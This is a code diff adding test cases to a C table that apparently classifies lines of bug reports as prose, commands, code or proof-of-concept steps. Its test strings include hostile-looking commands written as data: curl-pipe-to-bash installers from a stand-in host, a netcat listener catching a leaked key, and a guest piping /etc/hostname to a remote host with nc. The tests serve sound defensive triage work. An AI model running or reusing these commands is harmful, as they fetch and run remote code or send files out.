@@ -4686,6 +4686,48 @@ static const struct {
 	  "bob could read the file.\n", 1, 1, 0 },
 	{ PROSE "Two accounts:\n\n   as bob:  msb snapshot ls\n   ID          OWNER   CREATED\n"
 	  "   snap-91ac   alice   2026-11-02\n", 1, 1, 1 },
+	/* (1862) a one-line try/catch of JavaScript in a block is code: with
+	 * the call above it, two code lines make the snippet a PoC; a block
+	 * line that only starts with "try" is not */
+	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
+	  "    try { await box.run(\"true\") } catch (err) { console.log(err.stack) }\n", 1, 1, -1 },
+	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
+	  "    } catch (err) {\n", 1, 1, -1 },
+	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
+	  "    try again with a larger image\n", 1, 0, -1 },
+	/* (161) code typed flush left on a phone: a line that is one dotted
+	 * call, or assigns what one returns, is code; prose with a dotted
+	 * name before a parenthesis is not */
+	{ PROSE "what my guest program does:\n\nimport socket\n"
+	  "conn = socket.create_connection((\"192.0.2.1\", 80))\nconn.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\")\n", 1, 1, -1 },
+	{ PROSE "import socket\nsdk.log (the default file) grows.\nsee also app.cfg(5) in the manual.\n", 1, 0, -1 },
+	/* (1111) a listener that only waits shows what arrived, the effect;
+	 * with the guest's command that sent it, or serving a reply, it is
+	 * part of a reproduction */
+	{ PROSE "On my box:\n\n    $ nc -lvnp 9001\n    Listening on 0.0.0.0 9001\n"
+	  "    Connection received on 192.0.2.44 40112\n    GET /?k=abc HTTP/1.1\n", 1, 0, 1 },
+	{ PROSE "On my box:\n\n    $ sudo socat -v TCP-LISTEN:9001,fork -\n    GET /?k=abc HTTP/1.1\n", 1, 0, -1 },
+	{ PROSE "Listener first, then the guest:\n\n    $ ncat -lk 9001\n"
+	  "    $ msb run --network none alpine -- wget -qO- http://192.0.2.9:9001/\n", 1, 1, -1 },
+	{ PROSE "The fake registry:\n\n    $ nc -l 8080 < redirect-307.http\n", 1, 1, -1 },
+	{ PROSE "From the guest:\n\n    / # nc -w 3 192.0.2.9 4444 < /etc/hostname\n", 1, 1, -1 },
+	/* (153) commands a third party hands out ("the spam tells users to
+	 * run") are evidence of the lure, not the writer's run; the writer's
+	 * own command under his own words still is one */
+	{ PROSE "The spam we got tells users to run\n\n    curl -sSL https://msb-get.example/i | bash\n\n"
+	  "Nobody here ran it.\n", 1, 0, -1 },
+	{ PROSE "The fake update page asks\nvisitors to paste\n\n    curl -sSL https://msb-get.example/i | bash\n", 1, 0, -1 },
+	{ PROSE "The chat bot instructs victims to execute:\n\ncurl -fsSL https://msb-get.example/i.sh | sh -s -- --yes\n", 1, 0, -1 },
+	{ PROSE "I pasted this:\n\ncurl -fsSL https://msb-get.example/i.sh | sh -s -- --yes\n", 1, 1, -1 },
+	{ PROSE "To see it, run\n\n    curl -sSL https://msb-get.example/i | bash\n", 1, 1, -1 },
+	/* (1534) a workflow's "steps:" key over its "- uses:" and "- run:"
+	 * entries is YAML, no heading of a reproduction; a prose heading over
+	 * a list still is one */
+	{ PROSE "Our CI job:\n\n    jobs:\n      build:\n        steps:\n          - uses: actions/checkout@v4\n"
+	  "          - uses: actions/setup-node@v4\n          - run: npm test\n\nThe token is visible to the test.\n",
+	  1, 0, -1 },
+	{ PROSE "Steps:\n\n  - open the team page as a viewer\n  - pick the token list\n  - read another member's key\n",
+	  1, 1, -1 },
 };
 
 /* Issue #3: the type of each line (P prose, C command, O output, K code,
